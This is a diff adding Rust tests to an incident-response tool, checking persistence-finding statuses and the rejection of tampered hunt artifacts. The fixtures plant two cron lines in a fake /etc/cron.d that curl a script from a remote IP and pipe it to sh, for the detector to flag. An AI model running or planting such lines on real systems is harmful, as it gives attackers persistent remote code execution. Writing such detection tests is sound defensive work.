@@ -58,6 +58,9 @@ pub fn normalise(md: &str, dir: &str) -> String {
         (r"holds \d+ entries", "holds <n> entries"),
         (r"\(\d+ sealed entries", "(<n> sealed entries"),
         (r"\| \d+ \| \*\*", "| # | **"),
+        // Which changed files the journal's newest twenty already placed
+        // depends on the clock's tick (see above).
+        (r"\d+ added to the timeline", "<n> added to the timeline"),
     ];
     let mut t = md.replace(dir, "<dir>");
     for (re, to) in subs {
@@ -370,6 +373,126 @@ fn a_clean_host_gives_a_quiet_report() {
     let md = std::fs::read_to_string(h.case.join("report.md")).unwrap();
     assert!(
         md.contains("## Indicators of compromise\n\nNone found."),
+        "{md}"
+    );
+}
+
+/// Each flagged persistence item has a status (issue 16): one quarantined
+/// after the scan is `removed` by that step, one left in place is `to do`
+/// with the exact command that removes it, and only the latter is a to-do.
+#[test]
+fn persistence_items_say_removed_by_which_step_or_how_to_remove_them() {
+    let h = Host::files();
+    for (name, line) in [
+        ("gone", "* * * * * root curl -s http://203.0.113.9/a | sh\n"),
+        ("kept", "* * * * * root curl -s http://203.0.113.9/b | sh\n"),
+    ] {
+        let p = h.path(&format!("/etc/cron.d/{name}"));
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, line).unwrap();
+    }
+    h.ir().args(["-q", "persistence"]).assert().code(1);
+    h.ir()
+        .args(["-q", "quarantine", "--force", "/etc/cron.d/gone"])
+        .assert()
+        .success();
+    h.ir().args(["-q", "report"]).assert().success();
+    let js: Value =
+        serde_json::from_slice(&std::fs::read(h.case.join("report.json")).unwrap()).unwrap();
+    let errs = schema_errors(&js);
+    assert!(errs.is_empty(), "{errs:#?}");
+    let item = |path: &str| {
+        js["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["detector"] == "persistence" && f["where"] == path)
+            .unwrap_or_else(|| panic!("no finding at {path}: {}", js["findings"]))
+            .clone()
+    };
+    let gone = item("/etc/cron.d/gone");
+    assert_eq!(gone["status"], "removed", "{gone}");
+    assert_eq!(gone["removed_by"]["step"], "quarantine", "{gone}");
+    assert!(gone.get("remove_with").is_none(), "{gone}");
+    let kept = item("/etc/cron.d/kept");
+    assert_eq!(kept["status"], "to do", "{kept}");
+    assert_eq!(
+        kept["remove_with"], "ir quarantine /etc/cron.d/kept",
+        "{kept}"
+    );
+    let todo = js["todo"].to_string();
+    assert!(
+        todo.contains("/etc/cron.d/kept") && !todo.contains("/etc/cron.d/gone"),
+        "{todo}"
+    );
+    let md = std::fs::read_to_string(h.case.join("report.md")).unwrap();
+    assert!(md.contains("[removed by quarantine at "), "{md}");
+    assert!(
+        md.contains("[to do: ir quarantine /etc/cron.d/kept]"),
+        "{md}"
+    );
+    let html = std::fs::read_to_string(h.case.join("report.html")).unwrap();
+    assert!(html.contains("[to do: ir quarantine /etc/cron.d/kept]"));
+}
+
+/// The report's timeline holds every transcript message, tool call and
+/// log line the hunt read (not only flagged ones), from the hunt's case
+/// artifact; an artifact changed after the hunt is refused by name, its
+/// events left out, and the report says so (issue 16).
+#[test]
+fn the_timeline_holds_every_event_and_refuses_a_changed_artifact() {
+    let h = Host::files();
+    h.ir().args(["-q", "hunt"]).assert().code(1);
+    h.ir().args(["-q", "report"]).assert().success();
+    let read = |h: &Host| -> Value {
+        serde_json::from_slice(&std::fs::read(h.case.join("report.json")).unwrap()).unwrap()
+    };
+    let js = read(&h);
+    assert!(schema_errors(&js).is_empty(), "{:#?}", schema_errors(&js));
+    let a = &js["event_artifacts"][0];
+    assert_eq!(
+        (a["command"].as_str(), a["verified"].as_bool()),
+        (Some("hunt"), Some(true)),
+        "{a}"
+    );
+    let unflagged = |js: &Value, lane: &str| {
+        js["timeline"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|e| e["source"] == lane && e.get("severity").is_none())
+            .count()
+    };
+    assert!(unflagged(&js, "transcript") > 0, "{}", js["timeline"]);
+    let artifact = h.case.join("hunt-events.jsonl");
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&artifact).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    // One event rewritten after the hunt: refused whole.
+    let text = std::fs::read_to_string(&artifact).unwrap();
+    std::fs::write(
+        &artifact,
+        text.replacen("\"what\":\"", "\"what\":\"FORGED ", 1),
+    )
+    .unwrap();
+    h.ir().args(["-q", "report"]).assert().success();
+    let js = read(&h);
+    let a = &js["event_artifacts"][0];
+    assert_eq!(a["verified"], false, "{a}");
+    assert!(
+        a["note"]
+            .as_str()
+            .unwrap()
+            .contains("does not match the journal"),
+        "{a}"
+    );
+    assert_eq!(unflagged(&js, "transcript"), 0);
+    assert!(!js["timeline"].to_string().contains("FORGED"));
+    let md = std::fs::read_to_string(h.case.join("report.md")).unwrap();
+    assert!(
+        md.contains("hunt-events.jsonl (ir hunt) was REFUSED"),
         "{md}"
     );
 }
